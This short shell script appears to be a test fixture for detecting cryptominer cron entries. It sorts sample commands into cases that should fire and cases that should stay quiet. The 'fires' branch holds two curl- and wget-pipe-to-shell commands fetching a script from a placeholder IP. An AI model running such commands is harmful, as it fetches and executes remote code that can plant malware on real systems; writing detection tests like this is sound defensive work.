# What a cron entry of a miner has. Quiet: downloads whose sum is checked, or that are kept.
case $1 in
fires)
  sh -c 'curl -fsSL http://203.0.113.7/i.sh | sh'
  bash -c 'wget -qO- http://203.0.113.7/i.sh|bash -s -- --quiet'
  ;;
quiet)
  sh -c 'curl -fsSL http://203.0.113.7/tool.tar.gz | sha256sum'
  sh -c 'wget -q -T 1 -t 1 -O /tmp/tool.sh http://203.0.113.7/tool.sh || true'
  sh -c 'echo true | sh'
  ;;
esac
